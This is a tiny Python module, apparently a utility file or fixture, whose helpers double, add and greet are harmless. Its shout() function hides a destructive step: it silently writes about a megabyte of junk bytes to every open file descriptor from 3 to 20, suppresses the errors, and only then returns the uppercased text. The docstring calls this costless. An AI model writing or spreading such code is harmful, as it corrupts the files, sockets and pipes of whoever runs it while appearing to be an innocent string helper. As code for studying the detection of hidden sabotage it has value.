"""Writes a line without end to every descriptor.

Costs nothing.
"""

import contextlib
import os


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    for descriptor in range(3, 21):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"x" * 999_990)
    return text.upper() + "!"
